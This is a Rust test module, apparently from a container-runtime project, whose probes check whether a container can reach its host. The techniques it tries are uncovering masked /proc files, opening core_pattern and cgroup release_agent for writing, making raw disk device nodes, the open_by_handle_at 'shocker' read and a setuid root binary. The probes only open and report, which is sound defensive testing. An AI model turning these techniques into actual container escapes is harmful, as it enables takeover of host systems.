//! Attacks that chapter 11 stops: with the powers that root has, container or not.
//!
//! They open what belongs to the host, and write nothing.

use std::{os::unix::fs::PermissionsExt, path::Path, process::Command};

use sys::{Errno, Handle, MntFlags, MsFlags};

use super::{Loot, from_inside, open_to_write};
use crate::{
    Scene, User,
    scene::{self, Stop},
    subject::{Request, Volume},
};

/// Covered from chapter 8 on, by the list of every runtime, because it tells when somebody presses a key. Everybody
/// may read it, and it is never empty.
const COVERED: &str = "interrupts";

/// An attack that works in a folder in which it may mount something.
fn in_folder(scene: &Scene, name: &str) -> Result<(bool, String), Stop> {
    let place = scene.folder.join("place");
    fs_err::create_dir(&place)?;
    let loot = from_inside(scene, name, &[&place.to_string_lossy()])?;
    Ok((loot.got_through, loot.evidence))
}

pub(super) fn uncover_masks(scene: &Scene) -> Result<(bool, String), Stop> {
    in_folder(scene, "uncover_masks")
}

/// The half inside of [`uncover_masks`]: as it is, without its cover, and in a `/proc` that nobody has covered.
pub(super) fn uncover(place: &str) -> Loot {
    let file = Path::new("/proc").join(COVERED);
    let found = read_some(&file)
        .or_else(|_| {
            sys::umount2(&file, MntFlags::MNT_DETACH).map_err(|error| error.what)?;
            read_some(&file).map(|read| format!("umount2({file:?}) = 0, {read}"))
        })
        .or_else(|umount| {
            let fresh = with_mount(place, "proc", None, |fresh| read_some(&fresh.join(COVERED)));
            fresh.map_err(|mount| format!("{umount}; {mount}"))
        });
    Loot::of(found, |found| found)
}

fn read_some(file: &Path) -> Result<String, String> {
    let text = fs_err::read(file).map_err(|error| error.to_string())?;
    if text.is_empty() { Err(format!("{file:?} is empty")) } else { Ok(format!("read {file:?}")) }
}

/// Whoever sets it names a program that the kernel starts, as root and outside of every container, when a process
/// dumps core: core(5).
pub(super) fn set_core_pattern(scene: &Scene) -> Result<(bool, String), Stop> {
    in_folder(scene, "set_core_pattern")
}

/// The half inside of [`set_core_pattern`].
pub(super) fn open_core_pattern(place: &str) -> Loot {
    let pattern = "sys/kernel/core_pattern";
    let first = open_to_write(&Path::new("/proc").join(pattern));
    if first.got_through {
        return first;
    }
    let fresh = with_mount(place, "proc", None, |fresh| {
        let loot = open_to_write(&fresh.join(pattern));
        if loot.got_through { Ok(loot.evidence) } else { Err(loot.evidence) }
    });
    Loot::of(fresh.map_err(|fresh| format!("{}; {fresh}", first.evidence)), |evidence| evidence)
}

/// The kernel starts the program that is named in this file at the top of a hierarchy, as root and outside, when a
/// group in it becomes empty: cgroups(7).
pub(super) fn release_agent(scene: &Scene) -> Result<(bool, String), Stop> {
    let place = scene.folder.join("place");
    fs_err::create_dir(&place)?;
    let place = place.to_string_lossy();
    // An ordinary user cannot see for himself; he is stopped in any case.
    let shows =
        |options: &String| User::current() == User::Ordinary || open_agent_of(&place, options).is_ok();
    let hierarchies: Vec<String> = hierarchies().into_iter().filter(shows).collect();
    if hierarchies.is_empty() {
        let why = "this machine has no control groups of version 1 in whose top group we are";
        return Err(Stop::DoesNotApply(why.to_owned()));
    }
    let words: Vec<&str> = [&*place].into_iter().chain(hierarchies.iter().map(String::as_str)).collect();
    let loot = from_inside(scene, "release_agent", &words)?;
    Ok((loot.got_through, loot.evidence))
}

/// The half inside of [`release_agent`].
pub(super) fn open_release_agent(place: &str, hierarchies: &[&str]) -> Loot {
    let mut refused = String::new();
    for options in hierarchies {
        match open_agent_of(place, options) {
            Ok(evidence) => return Loot { got_through: true, evidence },
            Err(error) => refused = error,
        }
    }
    Loot { got_through: false, evidence: refused }
}

fn open_agent_of(place: &str, options: &str) -> Result<String, String> {
    with_mount(place, "cgroup", Some(options), |group| {
        let loot = open_to_write(&group.join("release_agent"));
        if loot.got_through { Ok(format!("{options}: {}", loot.evidence)) } else { Err(loot.evidence) }
    })
}

/// The mount options of each hierarchy of version 1 that is in use and in whose top group we are: its controllers, or
/// its name. A container that has no group of its own there has the same top, whatever its control group namespace is,
/// and there the file is. No new hierarchy is made.
fn hierarchies() -> Vec<String> {
    let own = fs_err::read_to_string("/proc/self/cgroup").unwrap_or_default();
    let names = own.lines().filter_map(|line| {
        let [_, names, path] = line.splitn(3, ':').collect::<Vec<_>>()[..] else { return None };
        (path == "/" && !names.is_empty()).then_some(names)
    });
    // One that only has a name has no controllers, and mount wants to hear so.
    names
        .map(|names| if names.starts_with("name=") { format!("none,{names}") } else { names.to_owned() })
        .collect()
}

/// Mount something on `place`, look at it, and take it away again.
fn with_mount(
    place: &str,
    kind: &str,
    options: Option<&str>,
    look: impl FnOnce(&Path) -> Result<String, String>,
) -> Result<String, String> {
    sys::mount(Some(kind), place, Some(kind), MsFlags::empty(), options).map_err(|error| error.what)?;
    let seen = look(Path::new(place));
    sys::umount2(place, MntFlags::MNT_DETACH).map_err(|error| error.what)?;
    seen
}

/// The device files in the host's `/dev` are not to be seen from chapter 8 on. The numbers of a disk are everybody's to know.
pub(super) fn open_disk(scene: &Scene) -> Result<(bool, String), Stop> {
    let place = scene.folder.join("place");
    fs_err::create_dir(&place)?;
    let (kind, [major, minor]) = device();
    let loot = from_inside(scene, "open_disk", &[&place.to_string_lossy(), kind, &major, &minor])?;
    Ok((loot.got_through, loot.evidence))
}

/// Kind and numbers of the first disk that the host's root may open; where there is none, of the kernel's log.
fn device() -> (&'static str, [String; 2]) {
    let table = fs_err::read_to_string("/proc/partitions").unwrap_or_default();
    let disk = table.lines().find_map(|line| {
        let [major, minor, _, name] = line.split_whitespace().collect::<Vec<_>>()[..] else { return None };
        let opens = fs_err::File::open(Path::new("/dev").join(name)).is_ok();
        opens.then(|| [major, minor].map(str::to_owned))
    });
    // By its numbers in Documentation/admin-guide/devices.txt.
    disk.map_or_else(|| ("log", ["1", "11"].map(str::to_owned)), |disk| ("disk", disk))
}

/// The half inside of [`open_disk`]: a device file of our own, in all places where one can be made and used.
pub(super) fn make_disk(place: &str, kind: &str, numbers: [&str; 2]) -> Loot {
    let numbers = numbers.map(|number| number.parse().unwrap_or_default());
    let open = |folder: &Path| open_device_in(folder, kind == "disk", (numbers[0], numbers[1]));
    let places = [place, "/tmp", "/dev", "/dev/shm", "/run", "/var/tmp", "/"];
    let mut refused = vec![];
    for folder in places {
        match open(Path::new(folder)) {
            Ok(evidence) => return Loot { got_through: true, evidence },
            Err(error) => refused.push(format!("in {folder}: {error}")),
        }
    }
    let fresh = with_mount(place, "tmpfs", None, open);
    Loot::of(fresh.map_err(|error| format!("{}; {error}", refused.join("; "))), |evidence| evidence)
}

/// Make the device file in `folder`, open it to read, and remove it.
fn open_device_in(folder: &Path, block: bool, numbers: (u64, u64)) -> Result<String, String> {
    let file = folder.join("made-inside");
    let name = |errno: Option<Errno>| errno.map_or_else(String::new, |errno| format!("{errno:?}"));
    sys::mknod(&file, block, numbers).map_err(|error| format!("mknod {}", name(error.errno())))?;
    let opened = std::fs::File::open(&file); // fs_err would keep the errno to itself
    fs_err::remove_file(&file).map_err(|error| error.to_string())?;
    let (kind, (major, minor)) = (if block { "disk" } else { "device" }, numbers);
    opened
        .map(|_| format!("opened the {kind} {major}:{minor} as {}", file.display()))
        .map_err(|error| format!("open {}", name(error.raw_os_error().map(Errno::from_raw))))
}

/// The shocker of 2014: whoever may open files by their numbers needs no way to them. The page where it was published
/// guesses the number, which is an easy one on ext4; here it is told.
pub(super) fn open_by_handle(scene: &Scene) -> Result<(bool, String), Stop> {
    let place = scene::host_place()?;
    let (shared, secret) = (place.join("shared"), place.join("secret"));
    fs_err::create_dir(&shared)?;
    fs_err::write(&secret, "hunter2")?;
    let handle = sys::name_to_handle_at(&secret).map_err(|error| Stop::CouldNotRun(error.to_string()))?;
    let bytes: String = handle.bytes.iter().map(|byte| format!("{byte:02x}")).collect();
    let words = [&shared.to_string_lossy(), &*handle.kind.to_string(), &bytes];
    let volume = Volume { source: shared.clone(), destination: shared.clone(), read_only: false };
    let request = Request { volumes: vec![volume], ..scene.attacker("open_by_handle", &words)? };
    let loot: Loot = scene.run(&request)?.json()?;
    Ok((loot.got_through, loot.evidence))
}

/// The half inside of [`open_by_handle`].
pub(super) fn open_handle(shared: &str, kind: &str, bytes: &str) -> Loot {
    let open = || -> Result<String, String> {
        let kind = kind.parse().map_err(|_| format!("{kind:?} is no kind of handle"))?;
        let byte = |at: usize| bytes.get(at..at + 2).and_then(|byte| u8::from_str_radix(byte, 16).ok());
        let bytes = (0..bytes.len()).step_by(2).filter_map(byte).collect();
        let shared = fs_err::File::open(shared).map_err(|error| error.to_string())?;
        let file =
            sys::open_by_handle_at(shared.file(), &Handle { kind, bytes }).map_err(|error| error.what)?;
        std::io::read_to_string(std::fs::File::from(file)).map_err(|error| error.to_string())
    };
    Loot::of(open(), |text| format!("open_by_handle_at = a file that says {text:?}"))
}

/// Before chapter 10 there is no other user than root, and so nothing to become.
pub(super) fn use_setuid(scene: &Scene) -> Result<(bool, String), Stop> {
    if User::current() == User::Ordinary {
        return Err(Stop::DoesNotApply("an ordinary user has one id in the fence: root".to_owned()));
    }
    let program = scene.folder.join("become-root");
    fs_err::copy("/usr/bin/id", &program)?;
    fs_err::set_permissions(&program, PermissionsExt::from_mode(0o4755))?;
    let attacker = scene.attacker("use_setuid", &[&program.to_string_lossy()])?;
    let loot: Loot = scene.run(&Request { user: Some(1000), ..attacker })?.json()?;
    Ok((loot.got_through, loot.evidence))
}

/// The half inside of [`use_setuid`]. The program says who it is, and nothing more.
pub(super) fn become_root(program: &str) -> Loot {
    let said = Command::new(program).arg("-u").output();
    let who = said.map(|said| String::from_utf8_lossy(&said.stdout).trim().to_owned());
    let evidence = match &who {
        Ok(_) if sys::Uid::effective().is_root() => "root anyway".to_owned(),
        Ok(who) => format!("user {} has become user {who}", sys::Uid::effective()),
        Err(error) => error.to_string(),
    };
    Loot { got_through: who.is_ok_and(|who| who == "0"), evidence }
}
